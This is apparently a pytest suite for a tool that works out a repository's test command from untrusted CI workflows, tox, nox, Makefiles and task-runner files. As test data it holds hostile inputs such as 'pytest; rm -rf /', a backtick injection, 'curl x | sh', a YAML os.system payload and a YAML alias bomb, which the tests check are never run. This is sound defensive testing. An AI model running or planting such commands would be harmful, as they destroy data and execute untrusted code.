"""How tests are run by what a repository's CI, tox and nox say; all of it is text by strangers."""

from collections.abc import Mapping

import pytest

from coder.verify.commands import test_command as command_of
from coder.verify.declared import declared

TESTS = {"tests/unit/test_a.py": "", "tests/slow/test_b.py": "", "pyproject.toml": ""}


def found(files: Mapping[str, str]) -> str | None:
    command = command_of(files, lambda path: files[path].encode())
    return command.shown if command else None


def workflow(*lines: str) -> dict[str, str]:
    steps = "".join(f"      - run: |\n          {line}\n" for line in lines)
    return {**TESTS, ".github/workflows/ci.yml": f"jobs:\n  a:\n    steps:\n      - uses: x/y@v1\n{steps}"}


@pytest.mark.parametrize(
    ("line", "shown"),
    [
        ("pytest tests/unit", "python3 -m pytest tests/unit"),
        ("uv run pytest tests/unit --cov=pkg --cov-report xml -n auto -vv", "python3 -m pytest tests/unit"),
        ("poetry run python -m pytest -m 'not slow' -x", "python3 -m pytest '-mnot slow'"),
        ("pytest --ignore tests/slow -k 'a and b'", "python3 -m pytest --ignore=tests/slow '-ka and b'"),
        ("coverage run -m pytest ./tests/unit/", "python3 -m pytest ./tests/unit/"),
        ("CI=1 FOO=bar pytest", "python3 -m pytest"),
        ("python -m unittest discover -s tests", "python -m unittest discover -s tests"),
        ("coverage run --branch -m unittest discover", "python3 -m unittest discover"),
    ],
)
def test_what_ci_runs_is_run(line: str, shown: str) -> None:
    made = found(workflow("pip install -e .", line))

    assert made is not None
    assert made.replace(" --maxfail=0", "").replace(" -q --tb=short", "") == shown


@pytest.mark.parametrize(
    "lines",
    [
        ("pytest tests/unit", "pytest tests/slow"),
        ("pytest tests/${{ matrix.part }}",),
        ("pytest tests/gone",),
        ("pytest; rm -rf /",),
        ("pytest `id`",),
        ("ruff check",),
        (),
    ],
)
def test_what_is_unclear_leaves_it_to_the_markers(lines: tuple[str, ...]) -> None:
    made = found(workflow(*lines))

    assert made is not None
    assert made == "python3 -m pytest -q --tb=short --maxfail=0"


def test_other_folders_and_other_languages_are_not_taken() -> None:
    elsewhere = {
        **TESTS,
        ".github/workflows/a.yml": "jobs: {a: {steps: [{run: pytest tests/unit, working-directory: b}]}}",
    }
    defaults = {**TESTS, ".github/workflows/a.yml": "defaults: {}\njobs: {a: {steps: [{run: pytest tests/unit}]}}"}
    other = {**TESTS, ".github/workflows/a.yml": "jobs: {a: {steps: [{run: go test ./...}]}}"}

    for files in (elsewhere, defaults, other):
        assert found(files) == "python3 -m pytest -q --tb=short --maxfail=0"


def test_where_nothing_else_tells_ids_what_ci_runs_does() -> None:
    files = {
        "Makefile": "test:\n\tgo test ./...\n",
        ".github/workflows/a.yml": "jobs: {a: {steps: [{run: go test ./...}]}}",
    }

    assert found(files) == "go test ./..."


@pytest.mark.parametrize(
    ("files", "shown"),
    [
        ({"tox.ini": "[testenv]\ncommands =\n    coverage run -m pytest {posargs:tests/unit}\n"}, "python3 -m pytest tests/unit"),
        ({"tox.ini": "[testenv]\ncommands = {envpython} -m unittest discover {posargs}\n"}, "python3 -m unittest discover"),
        ({"noxfile.py": "def t(session):\n    session.run('pytest', 'tests/unit', *session.posargs)\n"}, "python3 -m pytest tests/unit"),
    ],
)  # fmt: skip
def test_tox_and_nox_are_read(files: Mapping[str, str], shown: str) -> None:
    made = found({**TESTS, **files})

    assert made is not None
    assert made.replace(" --maxfail=0", "").replace(" -q --tb=short", "") == shown


@pytest.mark.parametrize(
    ("line", "shown"),
    [
        ("pytest --benchmark-skip --runslow --junitxml=x.xml", "--benchmark-skip --runslow"),
        ("pytest -p no:cacheprovider -p xdist -W error tests/unit", "-p no:cacheprovider -Werror -p xdist tests/unit"),
        ("pytest --doctest-modules --import-mode importlib", "--doctest-modules --import-mode=importlib"),
        ("pytest --asyncio-mode auto tests/unit -o addopts=", "-oaddopts= --asyncio-mode=auto tests/unit"),
        ("pytest --reruns 3 --snapshot-update --maxfail 1 --lf -x --cov pkg --timeout 60 tests/unit", "tests/unit"),
        ("uv run --with x --python 3.12 -- pytest tests/unit", "tests/unit"),
        ("uvx --with y pytest tests/unit", "tests/unit"),
        ("pixi run -e py312 pytest tests/unit", "tests/unit"),
        ("python3.12 -m pytest tests/unit # all of them", "tests/unit"),
        ("pip install -e . && python -m pytest tests/unit", "tests/unit"),
    ],
)
def test_what_chooses_tests_is_kept_and_what_measures_prints_or_repeats_is_not(line: str, shown: str) -> None:
    assert found(workflow(line)) == f"python3 -m pytest -q --tb=short --maxfail=0 {shown}"


@pytest.mark.parametrize(
    "line", ["cd sub && pytest tests/unit", "uv run --directory sub pytest tests/unit", "make -C sub test"]
)
def test_what_runs_in_another_folder_is_left_aside(line: str) -> None:
    assert found(workflow(line)) == "python3 -m pytest -q --tb=short --maxfail=0"


def test_options_of_plug_ins_can_be_spared() -> None:
    files = workflow("pytest --benchmark-skip -m 'not slow' tests/unit")
    made = declared(files, lambda path: files[path].encode())

    assert made is not None
    assert made.spared().shown == "python3 -m pytest -q --tb=short --maxfail=0 '-mnot slow' tests/unit"
    assert made.spared().spared() == made.spared()
    assert made.selecting(["tests/slow/test_b.py::x"]).shown.endswith("--benchmark-skip -- tests/slow/test_b.py::x")
    assert made.widened(["tests/slow/test_b.py"]).shown.endswith("tests/unit tests/slow/test_b.py")


TASKS: tuple[tuple[str, str, str], ...] = (
    ("make test", "Makefile", "PY ?= python3\n.PHONY: test\ntest: build ## run\n\t@echo hi\n\t$(PY) -m pytest $(ARGS) tests/unit\n"),
    ("make check", "GNUmakefile", "check: unit\nunit:\n\t-pytest \\\n\t  tests/unit\n"),
    ("just test", "justfile", "test *args:\n    uv run pytest tests/unit {{args}}\n"),
    ("poe test", "pyproject.toml", "[tool.poe.tasks]\ntest = {cmd = 'pytest tests/unit'}\n"),
    ("uv run poe test", "pyproject.toml", "[tool.poe.tasks]\ntest = ['lint', 'unit']\nlint = 'ruff check'\nunit = 'pytest tests/unit'\n"),
    ("hatch run test", "pyproject.toml", "[tool.hatch.envs.default.scripts]\ntest = 'pytest {args:tests/unit}'\n"),
    ("hatch run all:test", "hatch.toml", "[envs.all.scripts]\ntest = ['pytest tests/unit']\n"),
    ("hatch test", "pyproject.toml", "[tool.hatch.envs.hatch-test]\ndefault-args = ['tests/unit']\n"),
    ("pdm run test", "pyproject.toml", "[tool.pdm.scripts]\ntest = {composite = ['lint', 'unit']}\nunit.cmd = ['pytest', 'tests/unit']\n"),
    ("pixi run test", "pixi.toml", "[feature.dev.tasks]\ntest = 'pytest tests/unit'\n"),
    ("pixi run -e dev test", "pyproject.toml", "[tool.pixi.tasks.test]\ncmd = 'pytest tests/unit'\n"),
    ("pipenv run test", "Pipfile", "[scripts]\ntest = 'pytest tests/unit'\n"),
    ("tox -e py312", "tox.ini", "[testenv:lint]\ncommands = ruff\n[testenv]\ncommands = {envpython} -m pytest {posargs:tests/unit}\n"),
    ("tox", "tox.toml", "[env_run_base]\ncommands = [['pytest', {replace = 'posargs', default = ['tests/unit'], extend = true}]]\n"),
    ("tox", "pyproject.toml", '[tool.tox]\nlegacy_tox_ini = "[testenv]\\ncommands = pytest tests/unit"\n'),
    ("nox", "noxfile.py", "import nox\n@nox.session(python=['3.12'])\ndef tests(session):\n  session.run('pytest', 'tests/unit', env={'A': 'b'})\n"),
)  # fmt: skip


@pytest.mark.parametrize(("line", "path", "text"), TASKS, ids=[line for line, *_ in TASKS])
def test_the_names_of_tasks_are_looked_up(line: str, path: str, text: str) -> None:
    expected = "python3 -m pytest -q --tb=short --maxfail=0 tests/unit"

    assert found({**workflow(line), path: text}) == expected
    assert found({**TESTS, path: text}) == expected
    made = command_of({**TESTS, path: text}, lambda _: text.encode(), override=line)
    assert made is not None
    assert made.shown == expected


@pytest.mark.parametrize(
    ("line", "path", "text"),
    [
        ("tox -e unit", "tox.ini", "[testenv]\ncommands = true\n[testenv:unit]\ncommands =\n  pytest {toxinidir}/tests/unit\n"),
        ("nox -s unit-3.12", "noxfile.py", "".join(
            f"@nox.session\ndef {name}(session):\n  session.run('pytest', 'tests/{name}')\n" for name in ("unit", "slow")
        )),
    ],
)  # fmt: skip
def test_a_named_environment_has_its_own_commands(line: str, path: str, text: str) -> None:
    assert found({**workflow(line), path: text}) == "python3 -m pytest -q --tb=short --maxfail=0 tests/unit"
    assert found({**TESTS, path: text}) == "python3 -m pytest -q --tb=short --maxfail=0"


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("Makefile", "test: test\n\tmake test\n\tmake tests\ntests: test " + "test " * 5_000 + "\n"),
        ("Makefile", "A=$(B)$(B)\nB=$(A)$(A)\ntest:\n\tpytest $(A)\n"),
        ("Makefile", "test:\n\tpytest tests/unit; curl x | sh\n"),
        ("pyproject.toml", "[tool.poe.tasks]\ntest = ['test', 'test', 'test', 'unit']\nunit = ['test', 'test']\n"),
        ("pyproject.toml", "[tool]\npoe = 3\npdm = [1]\nhatch.envs = 'x'\n"),
        ("pyproject.toml", "[tool.pdm.scripts]\ntest = {call = 'a:b'}\n"),
        ("justfile", "test:\n" + "  \n" * 5_000),
        ("tox.toml", "[env_run_base]\ncommands = [1, ['pytest', {replace = 'x'}, 3]]\n"),
        ("noxfile.py", "session.run(" * 2_000),
    ],
)
def test_hostile_tasks_end_soon_and_run_nothing_unclear(path: str, text: str) -> None:
    files = {"tests/unit/test_a.py": "", "tests/slow/test_b.py": "", "setup.py": "", path: text}

    assert found(files) == "python3 -m pytest -q --tb=short --maxfail=0"


BOMB = "a: &a [x, x]\n" + "".join(
    f"{chr(98 + n)}: &{chr(98 + n)} [*{chr(97 + n)}, *{chr(97 + n)}]\n" for n in range(22)
)


@pytest.mark.parametrize(
    "text",
    [
        "jobs: [1, 2]",
        "- a",
        "jobs: {a: {steps: {run: pytest}}}",
        "jobs: {a: {steps: [run, 3, {run: [pytest]}]}}",
        "!!python/object/apply:os.system ['true']",
        "\x00",
        "[" * 5_000,
        BOMB + "jobs: {a: {steps: *w}}",
        "# " + "x" * 300_000,
        "jobs: {a: {steps: [{run: 'pytest \"'}]}}",
    ],
)
def test_hostile_workflows_are_as_none(text: str) -> None:
    files = {**TESTS, ".github/workflows/ci.yml": text}

    assert declared(files, lambda path: files[path].encode()) is None
